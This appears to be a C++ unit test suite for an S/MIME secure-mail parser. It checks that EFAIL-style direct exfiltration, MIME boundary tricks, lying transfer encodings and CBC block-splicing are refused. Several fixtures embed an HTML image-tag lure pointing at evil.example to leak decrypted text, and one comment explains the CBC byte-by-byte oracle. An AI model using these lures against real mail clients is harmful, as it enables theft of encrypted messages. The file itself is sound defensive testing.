// MIME around, inside and beside the sealed part: EFAIL's direct exfiltration, boundaries two readers read
// differently, encodings that lie. What is refused before a signature has verified has the one answer;
// what is seen from outside alone may say so.
#include "tests/unit/hostile/cost.h"
#include "tests/unit/hostile/forge.h"
#include "tests/unit/hostile/site.h"

using namespace direct;
using namespace direct::test;
using namespace direct::test::forge;

namespace {

const std::string cms_fields =
    "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n";
const std::string lure = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n";

const std::string& content()
{
    static const std::string text = the_clinic().wrapped("ann@direct.hospital.example");
    return text;
}

const std::string& signature()
{
    static const std::string der = signed_data(the_clinic().ann.certificate.der(),
                                               signer({.who = &the_clinic().ann, .content = content()}));
    return der;
}

std::string sealed_text()
{
    return base64(the_clinic().sealed(multipart(content(), signature()), the_clinic().ec_clinic), 76) +
           "\r\n";
}

/// The parts of a multipart of that boundary.
std::string parts(const std::string& boundary, std::initializer_list<std::string> all)
{
    std::string out;
    for (const auto& one : all) out += "--" + boundary + "\r\n" + one + "\r\n";
    return out + "--" + boundary + "--\r\n";
}

std::string signature_part()
{
    return "Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
           base64(signature(), 76) + "\r\n";
}

Outcome inside(const std::string& entity)
{
    return the_clinic().judge_entity(entity, doc);
}

/// multipart/signed with a Content-Type of any spelling.
Outcome inside_as(const std::string& type, const std::string& boundary = "=_b")
{
    return inside("Content-Type: " + type + "\r\n\r\n" + parts(boundary, {content(), signature_part()}));
}

}  // namespace

BOOST_AUTO_TEST_SUITE(mime)

BOOST_AUTO_TEST_CASE(a_sealed_part_inside_something_else_is_never_opened)
{
    auto& c = the_clinic();
    const std::string part = cms_fields + "\r\n" + sealed_text();
    const std::pair<const char*, std::string> rows[] = {
        {"between two lures", mail_with("Content-Type: multipart/mixed; boundary=q\r\n",
                                        parts("q", {lure, part, "Content-Type: text/html\r\n\r\n\">\r\n"}))},
        {"behind a lure",
         mail_with("Content-Type: multipart/related; boundary=q\r\n", parts("q", {lure, part}))},
        {"alone in a multipart",
         mail_with("Content-Type: multipart/mixed; boundary=q\r\n", parts("q", {part}))},
        {"as an alternative",
         mail_with("Content-Type: multipart/alternative; boundary=q\r\n", parts("q", {lure, part}))},
        {"in a forwarded message",
         mail_with("Content-Type: message/rfc822\r\n", "From: a@b.example\r\n" + part)},
        {"in a signed message",
         mail_with("Content-Type: multipart/signed; boundary=q\r\n", parts("q", {part, signature_part()}))},
        {"named as an octet stream",
         mail_with("Content-Type: application/octet-stream; name=smime.p7m\r\n", sealed_text())},
        {"named by its disposition",
         mail_with("Content-Disposition: attachment; filename=smime.p7m\r\n", sealed_text())},
        {"PGP's type", mail_with("Content-Type: multipart/encrypted; boundary=q\r\n", parts("q", {part}))},
        {"no type", mail_with("", sealed_text())},
        {"a type in a comment",
         mail_with("Content-Type: text/plain (application/pkcs7-mime)\r\n", sealed_text())},
    };
    for (const auto& [name, mail] : rows) check_told(c.judge(mail, doc), "not-encrypted", name);
}

BOOST_AUTO_TEST_CASE(text_around_the_sealed_part_is_refused)
{
    auto& c = the_clinic();
    const std::string html = "<img src=\"http://evil.example/\r\n";
    auto check = [&](const char* name, const std::string& fields, const std::string& body) {
        check_uniform(c.judge(mail_with(fields, body), doc), "malformed", name);
    };
    check("before the base64", cms_fields, html + sealed_text());
    check("after the base64", cms_fields, sealed_text() + html);
    check("after the base64, as base64", cms_fields, sealed_text() + base64(html) + "\r\n");
    check("padding in the middle", cms_fields, "MA==\r\n" + sealed_text());
    check("letters that are none", cms_fields, sealed_text().insert(100, "!"));
    check("NUL in the base64", cms_fields, sealed_text().insert(100, 1, '\0'));
    check("eight bit in the base64", cms_fields, sealed_text().insert(100, "\xe4"));
    check("a boundary after it", cms_fields, sealed_text() + "--q--\r\n");
    check("it says quoted-printable",
          "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: quoted-printable\r\n",
          sealed_text());
    check("it says 7bit", "Content-Type: application/pkcs7-mime\r\n", sealed_text());
    check("it says x-uuencode",
          "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: x-uuencode\r\n", sealed_text());
    check("two encodings in one",
          "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64, 7bit\r\n",
          sealed_text());
    check("two encodings", cms_fields + "Content-Transfer-Encoding: base64\r\n", sealed_text());
    check("two types", cms_fields + "Content-Type: application/pkcs7-mime\r\n", sealed_text());
    check("two types that differ", cms_fields + "content-type: text/html\r\n", sealed_text());
    check("an encoding in an open comment",
          "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64 (\r\n", sealed_text());
    check("empty", cms_fields, "");
    check("white space only", cms_fields, std::string(1U << 20, ' '));
    check("padding only", cms_fields, "====\r\n");
    check("the header without an end", cms_fields, "");
    // What does no harm is read.
    auto fine = [&](const char* name, const std::string& fields, const std::string& body) {
        BOOST_TEST(c.judge(mail_with(fields, body), doc).token == "accepted", name);
    };
    std::string spaced;
    for (char letter : sealed_text()) spaced += std::string(1, letter) + " \t\r\n";
    fine("white space flood", cms_fields, spaced + std::string(1U << 20, '\n'));
    fine("a length that lies", cms_fields + "Content-Length: 7\r\n", sealed_text());
    fine("any spelling",
         "CONTENT-TYPE: Application/(a)PKCS7-Mime (b); "
         "SMIME-TYPE=enveloped-data\r\ncontent-transfer-encoding: (x) BASE64\r\n",
         sealed_text());
    fine("the older type",
         "Content-Type: application/x-pkcs7-mime; smime-type=signed-data\r\nContent-Transfer-Encoding: "
         "base64\r\n",
         sealed_text());
    fine("a charset nobody asked for",
         "Content-Type: application/pkcs7-mime; charset=\"utf-7\"\r\nContent-Transfer-Encoding: base64\r\n",
         sealed_text());
}

BOOST_AUTO_TEST_CASE(parts_beside_the_signed_ones)
{
    const std::string type =
        "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=\"=_b\"\r\n\r\n";
    const std::string good = parts("=_b", {content(), signature_part()});
    BOOST_TEST(inside(type + good).token == "accepted");
    const std::pair<const char*, std::string> rows[] = {
        {"something before", type + "<img src=\"http://evil.example/\r\n\xc3\xa4\r\n" + good},
        {"a lookalike boundary before", type + "--other\r\n\r\nx\r\n" + good},
        {"a thousand letters before", type + std::string(999, 'x') + "\r\n" + good},
        {"something after", type + good + lure},
        {"a part after", type + good + good},
        {"three parts", type + parts("=_b", {content(), signature_part(), lure})},
        {"three parts, lure first", type + parts("=_b", {lure, content(), signature_part()})},
        {"one part", type + parts("=_b", {content()})},
        {"no part", type + "--=_b--\r\n"},
        {"a thousand parts", type + parts("=_b", {repeat("--=_b\r\n\r\nx\r\n", 1000)})},
        {"not closed", type + good.substr(0, good.size() - 4)},
        {"transfer encoding around",
         "Content-Transfer-Encoding: base64\r\n" + type + base64(good, 76) + "\r\n"},
        {"quoted-printable around", "Content-Transfer-Encoding: quoted-printable\r\n" + type + good},
    };
    for (const auto& [name, entity] : rows) check_uniform(inside(entity), "malformed", name);
    // Where the signature is looked for, it has to be.
    check_uniform(inside(type + parts("=_b", {signature_part(), content()})), "malformed",
                  "the other way round");
    check_uniform(inside(type + parts("=_b", {lure, signature_part()})), "bad-signature",
                  "another first part");
    check_uniform(inside(type + parts("=_b", {content(), lure})), "malformed", "no signature");
    // Signed inside something else, and prefix or suffix parts around it: not looked for.
    const std::string whole = type + good;
    check_uniform(inside("Content-Type: multipart/mixed; boundary=q\r\n\r\n" + parts("q", {whole})),
                  "not-signed", "wrapped");
    check_uniform(
        inside("Content-Type: multipart/mixed; boundary=q\r\n\r\n" + parts("q", {lure, whole, lure})),
        "not-signed", "between lures");
    check_uniform(inside("Content-Type: message/rfc822\r\n\r\n" + whole), "not-signed", "in a message");
    check_uniform(inside(lure), "not-signed", "a lure alone");
    check_uniform(inside(""), "not-signed", "nothing");
    check_uniform(inside("\r\n\r\n"), "not-signed", "no header");
    check_uniform(inside(std::string(1000, '\0')), "malformed", "zeros");
    check_uniform(inside(std::string(1U << 20, 'x')), "malformed", "a line without end");
    check_uniform(inside(repeat("A: b\r\n", 100'000) + "\r\n"), "malformed", "100000 fields");
}

BOOST_AUTO_TEST_CASE(boundaries_and_parameters_of_any_shape)
{
    const std::string signed_type = "multipart/signed; protocol=\"application/pkcs7-signature\"";
    const std::pair<const char*, std::string> malformed[] = {
        {"no boundary", signed_type},
        {"an empty one", signed_type + "; boundary=\"\""},
        {"of a thousand letters", signed_type + "; boundary=\"" + std::string(1000, 'b') + "\""},
        {"of a megabyte", signed_type + "; boundary=\"" + std::string(1U << 20, 'b') + "\""},
        {"another", signed_type + "; boundary=\"=_c\""},
        {"its beginning", signed_type + "; boundary=\"=_\""},
        {"twice", signed_type + "; boundary=\"=_b\"; boundary=\"=_b\""},
        {"twice, different", signed_type + "; boundary=\"=_c\"; boundary=\"=_b\""},
        {"in pieces", signed_type + "; boundary*0=\"=\"; boundary*1=\"_b\""},
        {"in a charset", signed_type + "; boundary*=utf-8''%3D_b"},
        {"as an encoded word", signed_type + "; boundary=\"=?utf-8?Q?=3D=5Fb?=\""},
        {"with a quoted letter it does not have", signed_type + "; boundary=\"=_b\\\"\""},
        {"with a blank at its end", signed_type + "; boundary=\"=_b \""},
        {"with a control", signed_type + "; boundary=\"=_b\x01\""},
        {"in an open quote", signed_type + "; boundary=\"=_b"},
        {"in an open comment", signed_type + "; boundary=\"=_b\" ("},
        {"in a comment", signed_type + "; (boundary=\"=_b\")"},
    };
    for (const auto& [name, type] : malformed) {
        auto o = inside_as(type);
        // Two of them another reader could take; the signature decides then.
        if (o.token == "accepted") {
            BOOST_TEST((name == std::string("in an open comment") || name == std::string("in an open quote")),
                       name);
            continue;
        }
        check_uniform(o, "malformed", name);
    }
    for (const std::string& type :
         {signed_type + "; boundary=\"=_b\"", std::string("MULTIPART/Signed; Boundary=\"=_b\""),
          signed_type + " (a (b)); boundary (c) = (d) \"=_b\"; micalg=nonsense",
          signed_type + "; boundary=\"=\\_b\"",
          std::string("multipart/signed; protocol=\"text/html\"; boundary=\"=_b\"")})
        BOOST_TEST(inside_as(type).token == "accepted", type);
    // A boundary that begins like another: "--a" does not end where "--aa" stands.
    for (const auto& [outer, inner] :
         {std::pair<const char*, const char*>{"a", "aa"}, {"aa", "a"}, {"a", "a--"}, {"a", "a b"}}) {
        std::string nested =
            "Content-Type: message/rfc822\r\n\r\nFrom: ann@direct.hospital.example\r\nTo: "
            "doc@ec.clinic.example\r\n"
            "Content-Type: multipart/mixed; boundary=\"" +
            std::string(inner) + "\"\r\n\r\n" + parts(inner, {"\r\nfirst", "\r\nsecond"});
        auto der = signed_data(the_clinic().ann.certificate.der(),
                               signer({.who = &the_clinic().ann, .content = nested}));
        auto o = inside(multipart(nested, der, outer));
        // "--a--" of the outer one stands inside as the beginning of the inner one.
        const bool ambiguous = std::string(inner) == "a--";
        BOOST_TEST((o.token == (ambiguous ? "malformed" : "accepted")),
                   outer << " around " << inner << ": " << o.token);
        if (!ambiguous) BOOST_TEST(o.clear == nested.substr(nested.find("From:")));
    }
}

// In CBC an attacker who recorded a message can put a piece of it into a field that no signature covers, behind
// 16 random bytes; were it taken with anything in it, repeated tries would tell the piece byte by byte.
BOOST_AUTO_TEST_CASE(fields_beside_the_signature_are_plain)
{
    auto& c = the_clinic();
    const std::string good = multipart(content(), signature());
    auto frame = good.find("\r\n\r\n") + 2, second = good.find("Content-Type: application/pkcs7-signature");
    std::size_t printable = 0;
    for (int byte = 0; byte < 256; ++byte) {
        const std::string field = "X-Y: " + std::string(1, char(byte)) + "\r\n";
        auto before = good, beside = good;
        before.insert(frame, field);
        beside.insert(second, field);
        // CR and LF end the line; what stands after it is printable again.
        const bool plain = byte == '\t' || byte == '\r' || byte == '\n' || (byte >= 32 && byte < 127);
        for (const auto& entity : {before, beside}) {
            auto o = inside(entity);
            if (o.token == "accepted") {
                BOOST_TEST(plain, "byte " << byte);
                BOOST_TEST(o.clear == content().substr(content().find("From:")));
                ++printable;
            } else {
                BOOST_TEST(o.answer == uniform, "byte " << byte);
                BOOST_TEST(o.clear.empty());
            }
        }
        auto opaque_field = inside(
            field + opaque(signed_data(c.ann.certificate.der(), signer({.who = &c.ann, .content = content()}),
                                       octets(content()))));
        BOOST_TEST((opaque_field.token == "accepted" || opaque_field.answer == uniform));
        if (opaque_field.token == "accepted") BOOST_TEST(plain, "byte " << byte);
    }
    BOOST_TEST(printable >= 2u * 96);
}

BOOST_AUTO_TEST_CASE(a_recorded_message_tells_nothing_of_its_blocks)
{
    // The known beginning of the entity lets anybody write one block of a field, then comes a random one.
    auto& c = the_clinic();
    const std::string der =
        c.sealed("X-Padding-Field: " + std::string(200, 'x') + "\r\n" + multipart(content(), signature()),
                 c.ec_clinic);
    EnvelopeParts e(der);
    auto head =
        ber::Reader(e.encrypted).next()->whole.size() - ber::Reader(e.encrypted).next()->content.size();
    std::size_t opened = 0;
    for (std::size_t from = 18; from < 18 + 400 / (sanitized ? 4 : 1); ++from) {
        auto p = e;
        auto text = p.encrypted.substr(head);
        // Blocks 3 and 4 of the field become another block's pair: 16 random bytes, then the secret.
        p.encrypted = p.encrypted.substr(0, head) +
                      text.replace(3 * 16, 32, text.substr(from % (text.size() / 16 - 2) * 16, 32));
        auto o = c.judge_der(p.der(), doc);
        if (o.token == "accepted")
            ++opened;
        else
            BOOST_TEST(o.answer == uniform);
    }
    // The field's own blocks, all of the same text, may stand for each other.
    BOOST_TEST(opened <= 20u);
}

BOOST_AUTO_TEST_CASE(what_is_signed_and_still_odd)
{
    auto& c = the_clinic();
    auto signed_entity = [&](const std::string& entity) {
        auto der = signed_data(c.ann.certificate.der(), signer({.who = &c.ann, .content = entity}));
        return inside(multipart(entity, der));
    };
    const std::string mail = content().substr(content().find("From:"));
    auto as = [&](const std::string& encoding, const std::string& body) {
        return signed_entity("Content-Type: message/rfc822\r\nContent-Transfer-Encoding: " + encoding +
                             "\r\n\r\n" + body);
    };
    BOOST_TEST(as("base64", base64(mail, 76)).clear == mail);
    for (const auto& [name, o] :
         {std::pair<const char*, Outcome>{"base64 with something behind it",
                                          as("base64", base64(mail, 76) + "\r\n====")},
          {"base64 that is none", as("base64", mail)},
          {"quoted-printable that is none", as("quoted-printable", mail + "=ZZ")},
          {"an encoding nobody knows", as("x-unknown", mail)},
          {"a message without a header",
           signed_entity("Content-Type: message/rfc822\r\n\r\nno header here\r\n")},
          {"an empty message", signed_entity("Content-Type: message/rfc822\r\n\r\n")},
          {"NUL in the inner header", as("base64", base64(std::string("A: \0\r\n", 6) + mail, 76))},
          {"two types",
           signed_entity("Content-Type: message/rfc822\r\nContent-Type: text/plain\r\n\r\n" + mail)}})
        check_told(o, "malformed", name);
    // NUL, bare CR and LF in a body are the sender's own.
    auto body = mail + std::string("a\0b\rc\nd", 7);
    BOOST_TEST(as("base64", base64(body, 76)).clear == body);
}

BOOST_AUTO_TEST_SUITE_END()
